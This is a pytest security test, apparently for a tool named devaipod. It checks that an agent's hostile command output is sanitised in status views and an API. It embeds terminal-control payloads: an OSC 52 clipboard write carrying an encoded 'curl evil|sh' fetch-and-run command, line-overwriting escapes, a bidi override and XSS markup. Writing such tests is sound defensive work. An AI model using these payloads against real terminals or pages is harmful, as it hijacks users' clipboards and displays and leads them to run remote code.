"""What the agent is doing now (tool, status line, last lines of output) on the user's
terminal and in the control plane's API.

The agent writes its commands and their output; the sidecar passes them on in its
/summary, cut into lines; `devaipod list`, `status` and the control plane's /api/pods show
them (agent.state.clean makes each one printable line, capped).
"""

from __future__ import annotations

import json
import subprocess
import sys
import time

import pytest

from devaipod.agent.client import AgentError
from podfixtures import run_devaipod

from .conftest import sidecar

pytestmark = pytest.mark.podman

ESC, BEL, RLO = "\x1b", "\x07", "\u202e"
# OSC 52 (write the clipboard), erase the line and move up, a bidi override, markup;
# raw in the command (so in the status line) and printed by it (so in its output)
HOSTILE = (f"{ESC}]52;c;Y3VybCBldmlsfHNo{BEL}{ESC}[2K{ESC}[1Amerged "
           f"<img src=x onerror=alert(1)><script>alert(2)</script> evil{RLO}hs.txt")
# (the huge line first: while a command runs, OpenCode keeps the last 30000 characters)
COMMAND = (f"head -c 100000 /dev/zero | tr '\\0' A; echo; printf '%s\\n' '{HOSTILE}'; "
           "while [ ! -e /tmp/go-on ]; do sleep 0.2; done")
UNSAFE = (ESC, BEL, RLO, "\x9b")


def assert_clean(what: str, tool, status: str, lines: list[str]) -> None:
    assert isinstance(lines, list) and len(lines) <= 5, (what, lines)
    for text in (tool or "", status, *lines):
        assert isinstance(text, str) and len(text) <= 200, (what, text[:300])
        assert text.isprintable() and not any(c in text for c in UNSAFE), (what, text)


def test_the_agents_tool_output_cannot_drive_the_terminal_or_bloat_the_list(
        hostile_pod, control_plane):
    """Attack: the agent runs a command whose text and output carry terminal control
    sequences (OSC 52 writes the user's clipboard, cursor moves overwrite lines), a bidi
    override, markup and a 100000-character line, for whoever reads what the agent is
    doing now in `devaipod list`, `status` and the control plane's /api/pods."""
    pod = hostile_pod()
    short = pod.name.removeprefix("devaipod-")
    send = subprocess.Popen([sys.executable, "-m", "devaipod", "opencode", short, "send",
                             f"RUN_BASH {COMMAND}"], stdout=subprocess.DEVNULL,
                            stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 180
        while True:  # until the command runs and its output is in the summary
            try:
                raw = sidecar(pod).get("/summary")
            except AgentError as exc:  # the sidecar is not up yet
                raw = {"error": str(exc)}
            if raw.get("tool") == "bash" and any("merged" in line for line in raw["lines"]):
                break
            assert time.monotonic() < deadline, raw
            time.sleep(0.5)
        # the attack reached the sidecar's summary, raw
        assert ESC in raw["status"] and RLO in raw["status"]
        assert any(f"{ESC}]52" in line for line in raw["lines"])

        rc, out, err = run_devaipod("status", short, "--json")
        assert rc == 0, err
        data = json.loads(out)
        assert data["agent_tool"] == "bash" and data["agent_status"].startswith("running bash")
        assert_clean("status --json", data["agent_tool"], data["agent_status"],
                     data["agent_lines"])
        assert "A" * 200 in data["agent_lines"]  # the huge line, capped
        assert any("\\u202e" in line for line in data["agent_lines"])  # shown, escaped

        while True:  # a sidecar slower than the list's 1 s deadline is unknown, for a moment
            status, pods = control_plane.call_json("GET", "/api/pods")
            assert status == 200
            row = next(p for p in pods if p["name"] == pod.name)
            if row["agent_tool"] == "bash":
                break
            assert time.monotonic() < deadline, row
            time.sleep(0.5)
        assert_clean("/api/pods", row["agent_tool"], row["agent_status"], row["agent_lines"])

        for args in (("list",), ("status", short)):
            rc, text, err = run_devaipod(*args)
            assert rc == 0, err
            assert not any(c in text for c in UNSAFE), (args, text)
            assert all(len(line) <= 240 for line in text.splitlines()), (args, text)
        assert "running bash: head -c 100000" in text  # status shows the line, made safe
    finally:
        pod.agent("touch /tmp/go-on", check=False)
        try:
            send.wait(120)
        except subprocess.TimeoutExpired:
            send.kill()
            send.wait()
